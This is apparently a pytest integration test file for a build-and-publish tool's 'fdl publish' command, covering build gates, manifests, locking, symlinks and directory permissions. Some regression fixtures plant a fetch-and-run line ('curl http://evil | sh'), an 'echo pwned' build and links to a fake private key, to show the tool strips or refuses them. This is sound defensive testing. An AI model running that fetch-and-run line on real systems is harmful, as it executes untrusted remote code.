"""`fdl publish` end to end with shell-recipe builds: report, flags against the block, the commit point, gates, lock."""

from __future__ import annotations

import fcntl
import json
import os
import shutil
import subprocess
import sys
import textwrap
import time
from pathlib import Path

import pytest
import yaml

from fdl.hostside.farm.doors import rrsync_command
from fdl.publish.manifest import FIELDS, MANIFEST_NAME
from tests.conftest import fdl_env, run_fdl
from tests.integration.publish_support import publish_env

BUILD = "mkdir -p out && cat *.txt > out/app"


class Box:
    """A per-test HOME, a source tree, and fdl publish run against them."""

    def __init__(self, root: Path):
        self.root = root
        self.home = root / "home"
        self.home.mkdir()
        self.src = root / "src"
        self.src.mkdir()
        (self.src / "a.txt").write_text("one\n")
        self.served = self.home / ".flodl" / "run"
        self.tree = self.served / "tree"
        self.extra_env: dict[str, str] = {}

    def publish(self, *args: str, cwd: Path | None = None, **env: str) -> subprocess.CompletedProcess:
        return run_fdl("publish", *args, cwd=cwd or self.root, env=publish_env(self.home, **{**self.extra_env,
                                                                                             **env}))

    def manifest(self, tree: Path | None = None) -> dict | None:
        path = (tree or self.tree) / MANIFEST_NAME
        return yaml.safe_load(path.read_text()) if path.exists() else None


@pytest.fixture
def box(tmp_path: Path) -> Box:
    return Box(tmp_path)


def ok(result: subprocess.CompletedProcess) -> subprocess.CompletedProcess:
    assert result.returncode == 0, f"exit {result.returncode}\nstdout:\n{result.stdout}\nstderr:\n{result.stderr}"
    return result


# --------------------------------------------------------------------------- the report


def test_publish_writes_tree_and_manifest_and_reports_both_worker_spellings(box: Box) -> None:
    result = ok(box.publish(f"file://{box.src}", "--bin", "out/app", "--build", BUILD, "--", "--model", "resnet"))
    manifest = box.manifest()
    assert list(manifest) == list(FIELDS)
    assert manifest["bin"] == "out/app" and manifest["cwd"] == "." and manifest["build"] == BUILD
    assert manifest["args"] == ["--model", "resnet"]
    assert manifest["origin"] == f"file://{box.src}" and manifest["built"] is True
    assert abs(manifest["published_epoch"] - time.time()) < 120
    assert (box.tree / "out" / "app").read_text() == "one\n"
    out = result.stdout
    assert f"published run {manifest['run']}" in out
    assert ":/tree\n" in out and f'command="{rrsync_command(str(box.served))}",restrict' in out
    assert f":{box.served}/tree\n" in out and "ordinary ssh key" in out
    assert "fdl publish: source: copied" in result.stderr  # notes go to stderr


def test_json_twin_carries_the_same_data_on_stdout_only(box: Box) -> None:
    result = ok(box.publish(f"file://{box.src}", "--bin", "out/app", "--build", BUILD + " && echo BUILD-OUTPUT",
                            "--json"))
    data = json.loads(result.stdout)  # nothing but the JSON on stdout, build output included
    assert "BUILD-OUTPUT" in result.stderr
    assert data["published"] is True and data["built"] is True
    assert data["manifest"] == box.manifest()
    assert data["run"] == box.manifest()["run"] and data["tree"] == str(box.tree)
    spellings = {w["key"]: w for w in data["worker_sources"]}
    assert spellings["rrsync"]["source"].endswith(":/tree")
    assert spellings["rrsync"]["authorized_keys_options"] == f'command="{rrsync_command(str(box.served))}",restrict'
    assert spellings["plain"]["source"].endswith(f":{box.served}/tree")
    human = ok(box.publish(f"file://{box.src}", "--bin", "out/app", "--build", BUILD)).stdout
    for spelling in spellings.values():
        assert spelling["source"] in human and spelling["pairs_with"] in human


def test_each_publish_gets_a_fresh_run_nonce(box: Box) -> None:
    runs = set()
    for _ in range(3):
        ok(box.publish(f"file://{box.src}", "--bin", "out/app", "--build", BUILD))
        runs.add(box.manifest()["run"])
    assert len(runs) == 3


def test_no_build_is_recorded_and_said_loudly(box: Box) -> None:
    result = ok(box.publish(f"file://{box.src}", "--bin", "out/app", "--no-build", "--build", "exit 1"))
    assert box.manifest()["built"] is False
    assert "NO: --no-build skipped the gate" in result.stdout
    assert "NOTHING HAS COMPILED THIS TREE" in result.stderr
    assert not (box.tree / "out").exists()


# --------------------------------------------------------------------------- flags against the publish: block


@pytest.fixture
def project(box: Box) -> Path:
    project = box.root / "project"
    (project / "sub").mkdir(parents=True)
    (box.src / "proj").mkdir()
    (box.src / "proj" / "b.txt").write_text("proj\n")
    (box.root / "src2").mkdir()
    (box.root / "src2" / "proj").mkdir()
    (box.root / "src2" / "proj" / "b.txt").write_text("src2\n")
    (project / "fdl.yml").write_text(textwrap.dedent(f"""\
        publish:
          source: file://{box.src}
          cwd: proj
          build: {BUILD}
          bin: out/app
          args: [--model, olmo, --epochs, "1"]
          to: served
        """))
    (project / "fdl.farm.yml").write_text("publish:\n  args: [--farm]\n  to: farm-served\n")
    return project


BLOCK = {"cwd": "proj", "build": BUILD, "bin": "out/app", "args": ["--model", "olmo", "--epochs", "1"]}


@pytest.mark.parametrize("argv, changed", [
    ([], {}),
    (["--bin", "out2/app", "--build", "mkdir -p out2 && cat b.txt > out2/app"],
     {"bin": "out2/app", "build": "mkdir -p out2 && cat b.txt > out2/app"}),
    (["--", "--lr", "0.1"], {"args": ["--lr", "0.1"]}),
    (["--"], {"args": []}),
    (["--", "--bin", "nope", "--"], {"args": ["--bin", "nope", "--"]}),
    (["--cwd", ".", "--bin", "proj/out/app", "--build", "cd proj && " + BUILD],
     {"cwd": ".", "bin": "proj/out/app", "build": "cd proj && " + BUILD}),
    (["--no-build"], {"built": False}),
], ids=["bare", "bin+build", "tail", "empty-tail", "tail-with-flag-words", "cwd", "no-build"])
def test_flags_win_field_by_field_and_a_tail_replaces_args(box: Box, project: Path, argv: list[str],
                                                          changed: dict) -> None:
    result = ok(box.publish(*argv, cwd=project))
    manifest = box.manifest(project / "served" / "tree")
    expected = {**BLOCK, "built": True, "origin": f"file://{box.src}", **changed}
    assert {k: manifest[k] for k in expected} == expected
    assert f"tree {project / 'served' / 'tree'}" in " ".join(result.stdout.split())


def test_source_and_to_flags_override_the_block(box: Box, project: Path) -> None:
    ok(box.publish(f"file://{box.root / 'src2'}", "--to", "../elsewhere", "--json", cwd=project / "sub"))
    manifest = box.manifest(project / "elsewhere" / "tree")  # a relative flag is taken from the cwd
    assert manifest["origin"] == f"file://{box.root / 'src2'}"
    assert (project / "elsewhere" / "tree" / "proj" / "out" / "app").read_text() == "src2\n"
    assert not (project / "served").exists()


def test_env_overlay_block_merges_over_the_base(box: Box, project: Path) -> None:
    result = ok(run_fdl("@farm", "publish", "--json", cwd=project / "sub", env=publish_env(box.home)))
    data = json.loads(result.stdout)
    assert data["served"] == str(project / "farm-served")  # a relative block path is taken from the project
    assert data["manifest"]["args"] == ["--farm"] and data["manifest"]["bin"] == "out/app"
    assert data["from"]["args"].startswith("publish: block (") and "fdl.farm.yml" in data["from"]["args"]
    assert data["from"]["bin"].startswith("publish: block (") and "fdl.yml:" in data["from"]["bin"]


def test_bare_publish_without_a_block_needs_source_and_bin(box: Box) -> None:
    result = box.publish()
    assert result.returncode == 1 and "fdl publish needs a source" in result.stderr
    result = box.publish(f"file://{box.src}")
    assert result.returncode == 1 and "needs --bin" in result.stderr
    assert not box.served.exists()


# --------------------------------------------------------------------------- the commit point


def test_failing_build_publishes_nothing_and_the_previous_run_stays_served(box: Box) -> None:
    """regression: a failed rebuild took the live run down (its manifest was removed before the build)."""
    ok(box.publish(f"file://{box.src}", "--bin", "out/app", "--build", BUILD))
    before = box.manifest()
    assert before is not None
    (box.src / "a.txt").write_text("two\n")
    result = box.publish(f"file://{box.src}", "--bin", "out/app", "--build", "echo compiler says no >&2; exit 3",
                         "--json")
    assert result.returncode == 1
    assert "the build gate failed" in result.stderr and "exited 3" in result.stderr
    assert "compiler says no" in result.stderr
    assert "Nothing was published: the previous run stays served" in result.stderr
    failure = json.loads(result.stdout)  # the boundary's twin of the error on stderr
    assert failure["ok"] is False and failure["exit_code"] == 1 and "the build gate failed" in failure["message"]
    assert box.manifest() == before  # the previous run, whole: its tree and its build
    assert (box.tree / "a.txt").read_text() == "one\n" and (box.tree / "out" / "app").read_text() == "one\n"
    staged = [p for p in (box.served / "releases").iterdir() if p.resolve() != box.tree.resolve()]
    assert [p.name for s in staged for p in s.iterdir() if p.name.startswith(MANIFEST_NAME)] == []


def test_a_bin_typo_keeps_the_previous_run_served(box: Box) -> None:
    """regression: a `--bin` typo left the fleet with nothing to pull until the next good publish."""
    ok(box.publish(f"file://{box.src}", "--bin", "out/app", "--build", BUILD))
    before = box.manifest()
    result = box.publish(f"file://{box.src}", "--bin", "out/ap", "--build", BUILD)
    assert result.returncode == 1 and "bin 'out/ap' is not there" in result.stderr
    assert box.manifest() == before


def test_first_failing_publish_leaves_no_manifest_anywhere(box: Box) -> None:
    result = box.publish(f"file://{box.src}", "--bin", "out/app", "--build", "exit 3")
    assert result.returncode == 1 and "Nothing was published: nothing is served yet" in result.stderr
    assert not box.tree.exists()
    assert list(box.served.rglob(MANIFEST_NAME + "*")) == []


def test_missing_artifact_fails_the_gate(box: Box) -> None:
    result = box.publish(f"file://{box.src}", "--bin", "out/missing", "--build", BUILD)
    assert result.returncode == 1 and "bin 'out/missing' is not there" in result.stderr
    assert box.manifest() is None


def test_cwd_missing_from_the_tree_publishes_nothing(box: Box) -> None:
    ok(box.publish(f"file://{box.src}", "--bin", "out/app", "--build", BUILD))
    before = box.manifest()
    result = box.publish(f"file://{box.src}", "--cwd", "nope", "--bin", "out/app", "--build", BUILD)
    assert result.returncode == 1 and "cwd 'nope' is not a directory in the fetched tree" in result.stderr
    assert box.manifest() == before


@pytest.mark.parametrize("argv, says", [
    (["file://relative", "--bin", "x"], "does not parse"),
    (["rsync://host", "--bin", "x"], "does not parse"),
    (["FILE", "--bin", "/abs/x"], "must be relative to the tree"),
    (["FILE", "--bin", "x", "--cwd", "../up"], "climbs out"),
    (["file:///nonexistent/dir", "--bin", "x"], "is not a directory on this box"),
    (["FILE", "--bin", "x", "--to", "SRC/served"], "overlap"),
    (["FILE", "--bin", "x", "--gate", "precompiled/cu128"], "no libtorch variant 'precompiled/cu128'"),
    (["FILE", "--bin", "x", "--build", "cargo build", "ENV:PATH=RSYNC_ONLY"], "needs cargo"),
    (["FILE", "--bin", "x", "ENV:LIBTORCH_PATH=/nonexistent/libtorch"], "LIBTORCH_PATH=/nonexistent/libtorch does "
                                                                       "not exist"),
])
def test_refusals_before_anything_is_touched_keep_the_previous_run(box: Box, argv: list[str], says: str) -> None:
    ok(box.publish(f"file://{box.src}", "--bin", "out/app", "--build", BUILD))
    before = box.manifest()
    env = {}
    words = []
    for word in argv:
        if word.startswith("ENV:"):
            name, _, value = word[4:].partition("=")
            if value == "RSYNC_ONLY":  # a PATH holding rsync alone: cargo is surely absent
                only = box.src.parent / "rsync-only-bin"
                only.mkdir(exist_ok=True)
                if not (only / "rsync").exists():
                    (only / "rsync").symlink_to(shutil.which("rsync"))
                value = str(only)
            env[name] = value
            continue
        words.append(word.replace("FILE", f"file://{box.src}").replace("SRC", str(box.src)))
    result = box.publish(*words, **env)
    assert result.returncode == 1, result.stderr
    assert result.stderr.startswith("fdl: error: ") or "\nfdl: error: " in result.stderr
    assert says in result.stderr
    assert "Traceback" not in result.stderr
    assert box.manifest() == before  # nothing was touched


def test_identity_for_a_file_source_is_noted_as_ignored(box: Box) -> None:
    key = box.root / "key"
    key.write_text("not used")
    result = ok(box.publish(f"file://{box.src}", "--bin", "out/app", "--build", BUILD, "--identity", str(key)))
    assert "--identity is used for rsync:// and git+ssh:// sources only" in result.stderr


def staging(box: Box) -> Path:
    """The release slot the next publish fetches into: the one `tree` does not point at."""
    live = box.tree.resolve()
    return next(p for p in (box.served / "releases").iterdir() if p.resolve() != live)


def test_tree_follows_the_source_incrementally(box: Box) -> None:
    (box.src / "gone.txt").write_text("x\n")
    ok(box.publish(f"file://{box.src}", "--bin", "out/app", "--build", BUILD))
    (box.tree / "target").mkdir()
    (box.tree / "target" / "cache").write_text("warm")
    (box.src / "gone.txt").unlink()
    (box.src / "new.txt").write_text("new\n")
    ok(box.publish(f"file://{box.src}", "--bin", "out/app", "--build", BUILD))
    assert not (box.tree / "gone.txt").exists()
    assert (box.tree / "new.txt").exists()
    assert (box.tree / "target" / "cache").read_text() == "warm"  # build output follows the new release
    assert (box.tree / "out" / "app").read_text() == "one\nnew\n"
    ok(box.publish(f"file://{box.src}", "--bin", "out/app", "--build", BUILD))
    assert (box.tree / "target" / "cache").read_text() == "warm"
    assert not (staging(box) / "target").exists()  # one cache, not one per release


def test_a_same_size_edit_within_the_same_second_is_published(box: Box) -> None:
    """rsync's default quick check compares whole seconds; found by the crash-injection test."""
    ok(box.publish(f"file://{box.src}", "--bin", "out/app", "--build", BUILD))
    ok(box.publish(f"file://{box.src}", "--bin", "out/app", "--build", BUILD))
    copied = (staging(box) / "a.txt").stat().st_mtime_ns  # the copy the next publish updates
    (box.src / "a.txt").write_text("two\n")  # same size
    same_second = copied + 1 if copied % 1_000_000_000 < 999_999_999 else copied - 1
    os.utime(box.src / "a.txt", ns=(same_second, same_second))
    assert (box.src / "a.txt").stat().st_mtime_ns // 10**9 == copied // 10**9
    assert (box.src / "a.txt").stat().st_mtime_ns != copied
    ok(box.publish(f"file://{box.src}", "--bin", "out/app", "--build", BUILD))
    assert (box.tree / "out" / "app").read_text() == "two\n"


# --------------------------------------------------------------------------- libtorch, the recipe env, --gate


def fake_variant(home: Path, label: str) -> Path:
    path = home / ".flodl" / "libtorch" / label
    (path / "lib").mkdir(parents=True)
    return path


DUMP = ('mkdir -p out && : > out/app && printf "%s|%s|%s|%s\\n" "$LIBTORCH_PATH" "$FDL_GPU_FEATURE" '
        '"$LD_LIBRARY_PATH" "${CARGO_TARGET_DIR:-}" >> "$FDL_TEST_LOG"')


def test_recipe_gets_libtorch_feature_and_rocm_ahead_of_libtorch(box: Box) -> None:
    rocm70 = fake_variant(box.home, "precompiled/rocm70")
    (box.home / ".flodl" / "libtorch" / ".active").write_text("precompiled/rocm70\n")
    log = box.root / "env.log"
    ok(box.publish(f"file://{box.src}", "--bin", "out/app", "--build", DUMP, FDL_TEST_LOG=str(log),
                   ROCM_PATH=str(box.root / "rocm"), CARGO_TARGET_DIR="/elsewhere"))
    libtorch, feature, ld_path, target = log.read_text().strip().split("|")
    assert (libtorch, feature, target) == (str(rocm70), "rocm", "")
    assert ld_path.split(":")[:2] == [str(box.root / "rocm" / "lib"), str(rocm70 / "lib")]


def test_gate_variants_check_build_under_their_own_target_dir(box: Box) -> None:
    fake_variant(box.home, "precompiled/cpu")
    (box.home / ".flodl" / "libtorch" / ".active").write_text("precompiled/cpu\n")
    cu128 = fake_variant(box.home, "precompiled/cu128")
    cuda = box.root / "cuda"
    (cuda / "include").mkdir(parents=True)
    (cuda / "include" / "cuda_runtime.h").write_text("")
    log = box.root / "env.log"
    result = ok(box.publish(f"file://{box.src}", "--bin", "out/app", "--build", DUMP, "--gate", "precompiled/cu128",
                            "--json", FDL_TEST_LOG=str(log), CUDA_HOME=str(cuda)))
    primary, gate = [line.split("|") for line in log.read_text().splitlines()]
    assert primary[1:] == ["", primary[2], ""]
    assert gate[0] == str(cu128) and gate[1] == "cuda"
    assert gate[3] == str(box.tree.resolve() / "target/gate/precompiled/cu128")
    data = json.loads(result.stdout)
    assert [g["name"] for g in data["gates"]] == ["build", "precompiled/cu128"]


def test_a_failing_check_build_publishes_nothing(box: Box) -> None:
    fake_variant(box.home, "precompiled/cpu")
    (box.home / ".flodl" / "libtorch" / ".active").write_text("precompiled/cpu\n")
    recipe = 'case "$LIBTORCH_PATH" in *cpu-other*) echo "only breaks there" >&2; exit 1;; esac; ' + BUILD
    ok(box.publish(f"file://{box.src}", "--bin", "out/app", "--build", BUILD))
    before = box.manifest()
    fake_variant(box.home, "precompiled/cpu-other")
    result = box.publish(f"file://{box.src}", "--bin", "out/app", "--build", recipe, "--gate",
                         "precompiled/cpu-other")
    assert result.returncode == 1
    assert "--gate precompiled/cpu-other: the check-build failed" in result.stderr
    assert box.manifest() == before


def test_a_gate_without_the_vendor_headers_fails_loudly_with_the_package_line(box: Box) -> None:
    if any(Path(d, "hip/hip_runtime.h").exists() for d in ("/opt/rocm/include", "/usr/include")):
        pytest.skip("this box has HIP headers installed, so their absence cannot be shown")
    fake_variant(box.home, "precompiled/rocm70")
    ok(box.publish(f"file://{box.src}", "--bin", "out/app", "--build", BUILD))
    before = box.manifest()
    result = box.publish(f"file://{box.src}", "--bin", "out/app", "--build", BUILD, "--gate", "precompiled/rocm70")
    assert result.returncode == 1
    assert "no ROCm (HIP) development headers" in result.stderr
    assert "apt-get install libamdhip64-dev" in result.stderr  # this project's test boxes are Debian
    assert box.manifest() == before


# --------------------------------------------------------------------------- the lock


def test_no_wait_fails_clearly_while_another_publish_holds_the_lock(box: Box) -> None:
    box.served.mkdir(parents=True)
    with open(box.served / ".publish.lock", "a+") as lock:
        fcntl.flock(lock, fcntl.LOCK_EX)
        lock.write("4242\n")
        lock.flush()
        result = box.publish(f"file://{box.src}", "--bin", "out/app", "--build", BUILD, "--no-wait")
    assert result.returncode == 1
    assert f"another fdl publish (pid 4242) is publishing into {box.served}" in result.stderr
    assert not box.tree.exists() or not (box.tree / MANIFEST_NAME).exists()


def test_two_publishes_into_one_served_dir_never_interleave(box: Box) -> None:
    log, go = box.root / "order.log", box.root / "go"
    # Each build logs its start, then holds until the test says go, then logs its end.
    recipe = f"echo start >> {log}; while [ ! -e {go} ]; do sleep 0.05; done; echo end >> {log}; " + BUILD
    argv = [sys.executable, "-m", "fdl", "publish", f"file://{box.src}", "--bin", "out/app", "--build", recipe]
    env = fdl_env(publish_env(box.home))
    err2_path = box.root / "second.err"

    def wait_for(condition, what: str) -> None:
        deadline = time.monotonic() + 60
        while not condition():
            assert time.monotonic() < deadline, f"timed out waiting for {what}"
            time.sleep(0.05)

    first = subprocess.Popen(argv, cwd=box.root, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    wait_for(lambda: log.exists() and "start" in log.read_text(), "the first build to start")
    with open(err2_path, "w") as err2:
        second = subprocess.Popen(argv, cwd=box.root, env=env, stdout=subprocess.PIPE, stderr=err2, text=True)
        wait_for(lambda: "waiting for it to finish" in err2_path.read_text(), "the second publish to wait")
        assert log.read_text().split() == ["start"]  # the second has not touched anything yet
        go.touch()
        _, err1 = first.communicate(timeout=120)
        out2, _ = second.communicate(timeout=120)
    assert first.returncode == 0 and second.returncode == 0, err1 + err2_path.read_text()
    assert log.read_text().split() == ["start", "end", "start", "end"]
    assert f"another fdl publish (pid {first.pid}) is publishing into {box.served}" in err2_path.read_text()
    assert box.manifest()["run"] in out2


def test_help_describes_the_tail_and_the_exit_codes() -> None:
    result = run_fdl("publish", "--help")
    assert result.returncode == 0
    text = " ".join(result.stdout.split())
    for word in ("--bin", "--cwd", "--build", "--to", "--identity", "--no-build", "--gate", "--json", "--no-wait",
                 "standalone --", "Exit code: 0 published, 1 otherwise"):
        assert word in text, word
    assert "publish" in run_fdl("--help").stdout


def test_publish_imports_nothing_heavy(tmp_path: Path) -> None:
    code = ("import sys; from fdl.cli.main import main; main(['publish', '--help']); "
            "print(sorted(m for m in ('ansible', 'ansible_runner', 'requests', 'pynvml') if m in sys.modules))")
    result = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, env=fdl_env(),
                            cwd=tmp_path)
    assert result.stdout.strip().endswith("[]"), result.stdout + result.stderr


# --------------------------------------------------------------------------- what a served tree may hold


def test_links_that_leave_the_source_are_refused_by_name_and_nothing_is_published(box: Box) -> None:
    """regression: a link like `keys -> ~/.ssh` was served as it was, for any door key holder to follow."""
    ok(box.publish(f"file://{box.src}", "--bin", "out/app", "--build", BUILD))
    before = box.manifest()
    secret = box.root / "secret"
    secret.mkdir()
    (secret / "id").write_text("PRIVATE\n")
    (box.src / "sub").mkdir()
    (box.src / "keys").symlink_to(secret)                   # absolute, outside
    (box.src / "sub" / "up").symlink_to("../../secret")     # relative, climbs out
    (box.src / "sub" / "fine").symlink_to("../a.txt")       # relative, inside: kept
    (box.src / "self").symlink_to(box.src / "a.txt")        # absolute into the source: outside once served
    result = box.publish(f"file://{box.src}", "--bin", "out/app", "--build", BUILD)
    assert result.returncode == 1, result.stderr
    assert "3 symbolic link(s) that reach outside the tree" in result.stderr
    for named in (f"keys -> {secret}", "sub/up -> ../../secret", f"self -> {box.src / 'a.txt'}"):
        assert named in result.stderr
    assert "sub/fine" not in result.stderr
    assert "Nothing was published: the previous run stays served" in result.stderr
    assert box.manifest() == before
    assert not (box.tree / "keys").exists() and not (box.tree / "keys").is_symlink()
    (box.src / "keys").unlink()
    (box.src / "sub" / "up").unlink()
    (box.src / "self").unlink()
    ok(box.publish(f"file://{box.src}", "--bin", "out/app", "--build", BUILD))
    assert os.readlink(box.tree / "sub" / "fine") == "../a.txt"


def test_a_manifest_in_a_file_source_is_removed_before_the_build_and_reported(box: Box) -> None:
    """regression: the manifest is fdl's alone, whatever the source carries."""
    planted = "bin: out/app\nrun: " + "0" * 32 + "\npublished_epoch: 1\nbuilt: true\nbuild: 'echo pwned'\n"
    (box.src / MANIFEST_NAME).write_text(planted)
    seen = box.root / "seen"
    result = ok(box.publish(f"file://{box.src}", "--bin", "out/app", "--build",
                            f"ls -a > {seen}; " + BUILD))
    assert MANIFEST_NAME not in seen.read_text().split()  # gone before the build ran
    assert f"the source carried its own {MANIFEST_NAME}; it was removed before the build" in result.stderr
    assert box.manifest()["build"] == f"ls -a > {seen}; " + BUILD
    assert box.manifest()["run"] != "0" * 32


def _git_source(box: Box, manifest: str) -> str:
    repo = box.root / "repo"
    repo.mkdir()
    env = {**os.environ, "GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@t", "GIT_COMMITTER_NAME": "t",
           "GIT_COMMITTER_EMAIL": "t@t", "HOME": str(box.home)}
    (repo / "a.txt").write_text("one\n")
    (repo / MANIFEST_NAME).write_text(manifest)
    for argv in (["init", "-q", "-b", "main"], ["add", "-A"], ["commit", "-qm", "v1"]):
        subprocess.run(["git", "-C", str(repo), *argv], check=True, env=env, capture_output=True)
    return f"git+file://{repo}#main"


def test_a_tracked_manifest_of_a_git_source_never_survives_a_failing_build(box: Box) -> None:
    """regression: a repository committing .fdl-run.yml, published with a failing build, was served with it."""
    planted = ("bin: out/app\nrun: " + "ab" * 16 + "\npublished_epoch: 1\nbuilt: true\n"
               "build: 'curl http://evil | sh'\n")
    spec = _git_source(box, planted)
    result = box.publish(spec, "--bin", "out/app", "--build", "exit 3")
    assert result.returncode == 1 and "Nothing was published" in result.stderr
    assert f"the source carried its own {MANIFEST_NAME}; it was removed before the build" in result.stderr
    assert list(box.served.rglob(MANIFEST_NAME)) == []
    ok(box.publish(spec, "--bin", "out/app", "--build", BUILD))
    assert box.manifest()["build"] == BUILD and box.manifest()["run"] != "ab" * 16


def test_the_served_tree_is_a_link_to_a_release_flipped_by_each_publish(box: Box) -> None:
    ok(box.publish(f"file://{box.src}", "--bin", "out/app", "--build", BUILD))
    first = os.readlink(box.tree)
    ok(box.publish(f"file://{box.src}", "--bin", "out/app", "--build", BUILD))
    second = os.readlink(box.tree)
    assert {first, second} == {"releases/a", "releases/b"}
    assert [p.name for p in box.served.iterdir() if p.name.endswith(".tmp")] == []


def test_a_tree_from_before_staged_publishes_stays_served_and_becomes_a_release(box: Box) -> None:
    ok(box.publish(f"file://{box.src}", "--bin", "out/app", "--build", BUILD))
    # Rebuild the old layout: a real directory holding the tree and its manifest.
    live = box.tree.resolve()
    box.tree.unlink()
    live.rename(box.tree)
    shutil.rmtree(box.served / "releases")
    before = box.manifest()
    result = box.publish(f"file://{box.src}", "--bin", "out/app", "--build", "exit 3")
    assert result.returncode == 1
    assert box.tree.is_symlink() and box.manifest() == before


# --------------------------------------------------------------------------- who can write the served directory
# regression (issue 37, finding 4): publish served from a directory another account owned or could write, so that
# account could swap `tree` after the build gate and every worker ran its build recipe.


def refused_served(result: subprocess.CompletedProcess, says: str) -> None:
    assert result.returncode == 1, result.stdout + result.stderr
    assert says in result.stderr and "fdl publish serves only from a directory nobody else can write" in result.stderr
    assert "Nothing was published" in result.stderr and "Traceback" not in result.stderr


def test_a_world_writable_served_directory_is_refused_and_left_untouched(box: Box) -> None:
    served = box.root / "open"
    served.mkdir()
    os.chmod(served, 0o777)
    refused_served(box.publish(f"file://{box.src}", "--bin", "out/app", "--build", BUILD, "--to", str(served)),
                   f"the served directory {served} can be written by others (mode 0777)")
    assert sorted(os.listdir(served)) == []  # no lock, no releases, no tree
    os.chmod(served, 0o1777)  # sticky is no better: others could still add releases/ or tree before you
    refused_served(box.publish(f"file://{box.src}", "--bin", "out/app", "--build", BUILD, "--to", str(served)),
                   "can be written by others (mode 1777)")
    twin = box.publish(f"file://{box.src}", "--bin", "out/app", "--build", BUILD, "--to", str(served), "--json")
    document = json.loads(twin.stdout)
    assert twin.returncode == 1 and document["ok"] is False and "nobody else can write" in document["message"]
    os.chmod(served, 0o755)
    ok(box.publish(f"file://{box.src}", "--bin", "out/app", "--build", BUILD, "--to", str(served)))


def test_a_served_directory_below_an_open_parent_is_refused(box: Box) -> None:
    parent = box.root / "shared"
    parent.mkdir()
    os.chmod(parent, 0o777)  # not sticky: anyone may rename run/ away and put theirs in its place
    served = parent / "run"
    refused_served(box.publish(f"file://{box.src}", "--bin", "out/app", "--build", BUILD, "--to", str(served)),
                   f"{parent}, a parent of the served directory {served}, can be written by others (mode 0777)")
    assert not served.exists()  # not even made


def test_a_served_directory_another_account_owns_is_refused(box: Box) -> None:
    import pwd

    from tests.conftest import need_root_or_skip

    need_root_or_skip("a directory of another real account is made with chown")
    nobody = pwd.getpwnam("nobody").pw_uid
    served = box.root / "theirs"
    served.mkdir()
    os.chown(served, nobody, -1)
    refused_served(box.publish(f"file://{box.src}", "--bin", "out/app", "--build", BUILD, "--to", str(served)),
                   f"the served directory {served} is owned by nobody (uid {nobody})")
    inner = served / "run"
    inner.mkdir()  # root's own directory, in theirs: they can rename it and put another in its place
    refused_served(box.publish(f"file://{box.src}", "--bin", "out/app", "--build", BUILD, "--to", str(inner)),
                   f"{served}, a parent of the served directory {inner}, is owned by nobody")
    os.chown(served, 0, -1)
    (served / "run" / "releases").mkdir(mode=0o755)
    os.chown(served / "run" / "releases", nobody, -1)  # a release area someone else made in time
    refused_served(box.publish(f"file://{box.src}", "--bin", "out/app", "--build", BUILD, "--to", str(inner)),
                   f"{inner / 'releases'} is owned by nobody")


def test_the_served_directory_publish_makes_is_closed_whatever_the_umask(box: Box) -> None:
    served = box.root / "made" / "here" / "run"
    for _ in range(2):  # the second publish finds what the first made, and believes it
        done = subprocess.run(["sh", "-c", f'umask 000 && exec "$0" -m fdl publish file://{box.src} --bin out/app '
                                           f'--build "{BUILD}" --to {served}', sys.executable],
                              cwd=box.root, env=fdl_env(publish_env(box.home)), capture_output=True, text=True)
        assert done.returncode == 0, done.stderr
    for directory in (box.root / "made", box.root / "made" / "here", served, served / "releases",
                      served / "releases" / "a", served / "releases" / "b"):
        assert os.stat(directory).st_mode & 0o022 == 0, f"{directory} {oct(os.stat(directory).st_mode)}"
